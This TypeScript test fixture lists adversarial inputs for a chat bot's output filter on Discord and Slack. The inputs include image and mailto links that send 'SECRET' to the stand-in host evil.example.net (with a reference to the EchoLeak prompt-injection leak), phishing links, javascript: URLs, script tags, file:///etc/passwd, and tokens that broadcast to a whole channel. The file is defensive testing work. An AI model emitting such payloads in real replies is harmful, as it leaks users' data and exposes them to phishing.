/** A text with which a web page or an agent tries to make the bot do something. */
export interface AdversarialCase {
  readonly name: string;
  readonly input: string;
  /** Where the case comes from, or why it is tried. */
  readonly because: string;
}

const page = 'https://evil.example.net/x';

const cases: readonly (readonly [name: string, input: string, because: string])[] = [
  // The numbers are those of the project's list of threats.
  ['everyone and here', 'Wake up @everyone and @here', 'A1: Discord broadcasts'],
  ['a user, a role', '<@123456789012345678> <@!123456789012345678> <@&123456789012345678>', 'A2: Discord mentions'],
  ['Slack broadcasts', '<!channel> <!here> <!everyone>', 'A3'],
  ['a Slack date with a link', `<!date^1392734382^{date}^${page}|today>`, 'A4: the fallback of a date token may link'],
  ['a plain channel mention', 'See @channel and #general', 'A5: live only with link_names'],
  ['broadcasts in code', '`<!here> @everyone`\n\n```\n<!channel> <@U123> @here\n```', 'A6'],
  ['an image', '![chart](https://evil.example.net/?d=SECRET)', 'A7: images are fetched without a click (EchoLeak)'],
  ['an HTML image', '<img src="https://evil.example.net/?d=SECRET">', 'A8'],
  ['a link that says another host', '[google.com](https://evil.example.net)', 'A9: phishing'],
  [
    'user-info',
    'https://bank.example.com@evil.example.net/ [pay](https://bank.example.com:443@evil.example.net/)',
    'A10',
  ],
  ['dots and slashes', '[a](https://evil.example.net/%2e%2e) [b](\\\\evil.example.net) [c](//evil.example.net)', 'A11'],
  ['a bare URL with a long query', `https://evil.example.net/?q=${'QUJD'.repeat(50)}`, 'A12: exfiltration'],
  ['a host without a scheme', 'See evil.example.net/x', 'A13: accepted, no client links it by itself'],
  ['a title that closes its link', `](${page})`, 'A14'],
  ['direction marks', 'a\u202egpj.exe\u202c [\u2066google.com\u2069](https://evil.example.net)', 'A17'],
  ['joiners that join', '👩‍👩‍👧‍👦 می‌خواهم', 'A18: must stay'],
  ['half characters', 'x\ud800y\udc00z\u0000 \ufffe', 'A19'],
  ['Block Kit JSON', `{"blocks":[{"type":"section","text":{"type":"mrkdwn","text":"<!channel> <${page}|x>"}}]}`, 'A23'],
  ['components JSON', `{"components":[{"type":1,"components":[{"type":2,"style":5,"url":"${page}"}]}]}`, 'A23'],
  ['open brackets', '['.repeat(60), 'A38: slow parsers'],
  ['many stars', `${'*'.repeat(60)}a`, 'A38'],
  ['pipes', `|${'a|'.repeat(30)}\n|${'-|'.repeat(30)}`, 'A38'],
  ['deep quotes', `${'>'.repeat(60)} <!here>`, 'A38'],
  // Our own.
  ['an escaped scheme', 'https:\\/\\/evil.example.net/x', 'escapes are resolved before the platform looks for URLs'],
  ['an escaped colon', 'https\\://evil.example.net/x', 'the same'],
  [
    'entities in a scheme',
    'https&#58;//evil.example.net &#104;ttps://evil.example.net https&colon;//evil.example.net',
    'the same with character references',
  ],
  [
    'an entity mention',
    '&#64;everyone @&#101;veryone &commat;here &lt;!here&gt; &#60;@123456789012345678>',
    'the same',
  ],
  [
    'marks by name',
    `&lbrack;click&rbrack;&lpar;${page}&rpar; &excl;&lsqb;x&rsqb;&lpar;${page}&rpar; &grave;&grave;&grave; &ast;&ast;a &lowbar;b &vert;&verbar;${page}&vert;|`,
    'they must not become markup by rendering',
  ],
  [
    'tokens by name',
    'https&colon;&sol;&sol;evil&period;example.net www&period;evil.example.net &lt;&excl;here&gt; &lt;&commat;123456789012345678&gt; &lt;&num;1&gt; &commat;every&zwj;one',
    'the same with names',
  ],
  [
    'blocks by name',
    'a&#10;&num; b&NewLine;&#10;&gt; c&#13;&#10;&lowbar;&lowbar;&lowbar;&#10;&#10;&lbrack;a&rbrack;&colon; https://evil.example.net/x&#10;&grave;&grave;&grave;&#10;&lt;!here>',
    'a line break comes as a reference',
  ],
  [
    'entities in a destination',
    '[a](java&Tab;script&colon;alert) [b](https&colon;//user&commat;evil.example.net/) [c](&#x68;ttps://evil.example.net/&#x202e;&gt;) ![d](https&#58;//evil.example.net)',
    'they are resolved before the gate decides',
  ],
  [
    'halves of a character by number',
    '&#xD83D;&#xDE00; &#0;&#x110000;&#xFFFFFF; &#128;&#150;',
    'numbers that are no characters',
  ],
  [
    'entities twice over',
    '&amp;lt;!here&amp;gt; &amp;#60;!channel&amp;#62; &amp;amp;lt;!here>',
    'resolved once by us, once by Slack',
  ],
  [
    'invisible entities',
    'a&#x202e;b&#8203;c&#xfeff;d&#xe0041;e @&#8203;everyone',
    'what is filtered as a character comes as a reference',
  ],
  [
    'an invisible character in a mention',
    '@every\u200bone <\u200b!here> <@\u2060123456789012345678> @he\u00adre',
    'removing it must not make a mention',
  ],
  ['an invisible character in a URL', 'ht\u200btps://evil.example.net https:\u2060//evil.example.net', 'the same'],
  ['marks in a mention', '@**everyone** **@**here @every*one* <*!here*> **<**!here**>**', 'marks vanish'],
  [
    'a mark before a URL',
    `_${page}_ **${page}** ~~${page}~~ x${page} 1${page} é${page}`,
    'no word border before the scheme',
  ],
  [
    'a URL with odd neighbours',
    `(${page}) "${page}" '${page}' «${page}» ${page}、${page}。`,
    'where a URL ends is told differently',
  ],
  [
    'other schemes',
    'http://evil.example.net ftp://evil.example.net steam://run/1 discord://x slack://open vscode://x file:///etc/passwd',
    'clients link some of them',
  ],
  [
    'a scheme and nothing',
    'https:// https://) https://"evil.example.net http://( https://[evil.example.net]',
    'what one parser ends another goes on with',
  ],
  [
    'www',
    'www.evil.example.net (www.evil.example.net) *www.evil.example.net* WWW.EVIL.example.net',
    'autolinked by GFM without a scheme',
  ],
  [
    'an invitation',
    'discord.gg/abc discord.com/invite/abc https://discord.gg/abc discordapp.com/invite/x',
    'Discord shows a card, without a scheme too',
  ],
  ['an autolink in angle brackets', `<${page}> <${page}|click> <mailto:x@evil.example.net>`, 'both platforms read it'],
  [
    'a script',
    '[a](javascript:alert(1)) [b](data:text/html;base64,PGI+) [c](vbscript:x) [d](JaVaScRiPt:x)',
    'schemes that run',
  ],
  [
    'addresses by number',
    '[a](https://127.0.0.1/) [b](https://2130706433/) [c](https://0x7f000001/) [d](https://[::1]/) [e](https://0177.1/) [f](https://[::ffff:10.0.0.1]/)',
    'hosts that are not public',
  ],
  [
    'local hosts',
    '[a](https://localhost/) [b](https://printer.local/) [c](https://vault.internal/) [d](https://intranet/) [e](https://evil.example.net./)',
    'hosts that are not public',
  ],
  [
    'a reference link',
    `[click][1] and [1] and ![i][1]\n\n[1]: ${page} "t"`,
    'EchoLeak: passed a filter of inline links',
  ],
  [
    'a reference definition with escapes',
    `[a]\n\n\\[a]: ${page}\n\n[a]\\: ${page}`,
    'it must not become one by rendering',
  ],
  [
    'a link of pieces',
    `\\[click\\](${page}) [click]\\(${page}) &#91;click&#93;(${page})`,
    'it must not become one by rendering',
  ],
  [
    'a link behind an exclamation mark',
    `Wow\\![1](${page}) Wow![1](${page}) Wow!${page}`,
    'it must not become an image by rendering',
  ],
  [
    'backticks of several lengths',
    `\`\` ${page} \` \`\`\`\` \`\`\` <!here> @everyone \`\`\` \`\`\`\``,
    'a shorter run must not end the span',
  ],
  [
    'marks in code under marks',
    `**\`**\` ${page}** **\`**\` \`[Sign in again](${page}?d=SECRET)\`** ~~\`~~\` \`<@123456789012345678>\`~~ *a \`*\` \`@everyone\` b* #`,
    'Discord ends a style within code, and pairs the backticks behind it wrongly',
  ],
  [
    'marks in code in headings, tables and links',
    `#### a \`**\` ${page}\n\n| \`**\` ${page} | b |\n|---|---|\n| \`**\` ${page} ${'wide '.repeat(20)}| \`x\` |\n\n**[a \`**\` b](${page}) \`</ban:123456789012345678>\`**`,
    'the same where the marks are ours',
  ],
  [
    'an end of a link in words and code behind a footnote',
    `https://delivered.example.org/page ](\`) ${page}\` \`](\` \\](\\\`) \`@everyone\`\n\n\`\`\`\na](\`) ${page}\n\`\`\`\n\n[x\\](y](${page})`,
    'Discord takes everything from the footnote on as one link, and pairs the backticks behind it wrongly',
  ],
  ['code next to code', `\`\`a \` ${page}\`\`\`b\`<${page}>\`c\``, 'two spans must not be read as one'],
  ['a long code span', `\`\`${'a ` '.repeat(120)} ${page} @everyone <!here>\`\``, 'it is cut into several spans'],
  [
    'an empty fence',
    `\`\`\`\n\`\`\`\n\n\`\`\`\n${page} @everyone <!here> <@123456789012345678>\n\`\`\``,
    'Discord reads no fence without text, and pairs the next ones wrongly',
  ],
  ['a fence of blank lines', `\`\`\`\n\n\n\`\`\`\n\n\`\`\`\n@everyone ${page}\n\`\`\``, 'the same'],
  ['a fence in a fence', `~~~\n\`\`\`\n~~~\n\n@everyone ${page} \`\`\` <!here>`, 'the content must not end the fence'],
  ['a fence with words behind it', `\`\`\`<!here> @everyone\nx\n\`\`\``, 'the language is text from outside'],
  [
    'a fence in a quote in a list',
    `- > \`\`\`\n  > @everyone ${page}\n  > \`\`\`\n- \`\`\`\n  <!here>\n  \`\`\``,
    'frames within frames',
  ],
  ['an open fence', `\`\`\`\n@everyone ${page} <!here>`, 'it never ends'],
  ['open marks', `**bold *and ~~more \`code ${page} @everyone`, 'they never end'],
  [
    'a table',
    `| a | <!here> |\n| - | - |\n| @everyone | ${page} |\n| [x](${page}) | \`a\\|${page}\` |`,
    'cells are cut at pipes',
  ],
  [
    'a pipe behind backslashes in a cell',
    `| a |\n| - |\n| \`x\\\\\\|${page}\` |\n| \\\\\\\\\\| <!here> |`,
    'readers count backslashes differently',
  ],
  ['a table by rendering', `a | b\n\\:-- | --\n${page} | @everyone`, 'words must not become a table'],
  ['a table with more cells than its head', `| a |\n|---|\n| b | <!here> | ${page} |`, 'what is left over'],
  ['a heading', `# <!here> @everyone ${page}\n\n${page}\n===`, 'every block'],
  [
    'line starts',
    '\\# a\n\\- b\n\\> c\n\\1. d\n1\\. e\n\\-# f\n\\>>> g\n- \\# h\n> \\# i',
    'words must not become blocks',
  ],
  ['a task list', `- [x] <!here>\n- [ ] @everyone\n- [${page}](${page})`, 'every block'],
  ['a spoiler', `||${page}|| ||@everyone||`, "Discord's own mark"],
  [
    'a timestamp, an emoji, a command',
    '<t:1618953630:R> <:bad:123456789012345678> <a:bad:123456789012345678> </ban:123456789012345678> <id:customize> <#123456789012345678>',
    'tokens of Discord',
  ],
  [
    'Slack tokens',
    '<@U012AB3CD> <#C012AB3CD> <#C012AB3CD|general> <!subteam^S012AB3CD> <@W1|x> <tel:+123|call>',
    'tokens of Slack',
  ],
  ['a token over lines', '<!\nhere> <@\nU123> <https://evil.example.net\n|x>', 'a line break within'],
  [
    'an international host',
    '[gооgle.com](https://gооgle.com/) https://раypal.com/ [аpple.com](https://xn--pple-43d.com/)',
    'letters of other alphabets',
  ],
  [
    'words that begin with a host',
    '[google.com/login](https://evil.example.net) [https://google.com/a](https://evil.example.net) [at google。com](https://evil.example.net)',
    'phishing',
  ],
  [
    'brackets in the words of a link',
    `[a [google.com](https://google.com) b](${page}) [a\\](https://google.com) b](${page})`,
    'nested',
  ],
  [
    'a title of a link',
    `[a](${page} "<!here> @everyone") [b](${page} '](https://x.example.net)')`,
    'a second text in a link',
  ],
  [
    'parentheses and spaces in a URL',
    `[a](<https://evil.example.net/a b(c)>) [b](https://evil.example.net/(a)) [c](https://evil.example.net/a|b)`,
    'where the URL ends',
  ],
  [
    'a line break in a URL',
    'http://10.0.0.1/a\n\nhttps://evil.example.net <!here> @everyone',
    'URL parsers skip line breaks',
  ],
  [
    'a very long URL',
    `https://evil.example.net/${'a'.repeat(1600)} [x](https://evil.example.net/${'b'.repeat(1600)})`,
    'it must not be cut into a live one',
  ],
  ['a very long row', `| a | b |\n|---|---|\n| ${'word '.repeat(40)} | ${page} |`, 'rows are not cut'],
  [
    'mail and telephone',
    '[a](mailto:x@evil.example.net?body=SECRET) mailto:x@evil.example.net?body=SECRET <tel:123>',
    'a link that sends',
  ],
  ['a formula', `$$<!here> ${page}$$ \\(@everyone\\) \\[${page}_1\\] $x^{<!here>}$`, 'it is written as code'],
  ['a formula that never ends', `$$\n@everyone ${page}\n\n\\[ <!here>`, 'the same'],
  [
    'HTML',
    `<a href="${page}">x</a> <script>alert(1)</script> <!-- <!here> --> <iframe src="${page}"/>`,
    'every tag is text',
  ],
  [
    'a scheme within a scheme',
    'https:www.//evil.example.net hthttps://tps://evil.example.net wwwww.w.evil.example.net',
    'taking one away leaves another',
  ],
  ['HTML over lines', `<div\nonclick="${page}">\n\n@everyone\n</div>`, 'the same'],
  ['line breaks of HTML', `a<br>${page}<br/><!here><br />@everyone`, 'the one tag that is read'],
  ['footnotes of Markdown', `a[^1]\n\n[^1]: ${page}`, 'some readers know them'],
  [
    'an emoji in a scheme',
    `https:🙂//evil.example.net [🙂](${page})`,
    'emoji are removed from the words of links on Discord',
  ],
  ['full-width letters', '＠everyone ＜!here＞ https：//evil.example.net', 'look-alikes of the marks'],
  ['right to left', `שלום ${page} עולם @everyone`, 'the order of letters must not matter'],
  ['lines without end', `${'a '.repeat(300)}${page} <!here> @everyone`, 'the wait for open marks is bounded'],
  [
    'code with tokens',
    '`<!here>` `<@U123>` `<https://evil.example.net|x>`\n\n    <!channel>',
    'Slack may read tokens in code',
  ],
];

/** Cases that every door and every dialect must withstand. */
export const adversarialCases: readonly AdversarialCase[] = cases.map(([name, input, because]) => ({
  name,
  input,
  because,
}));
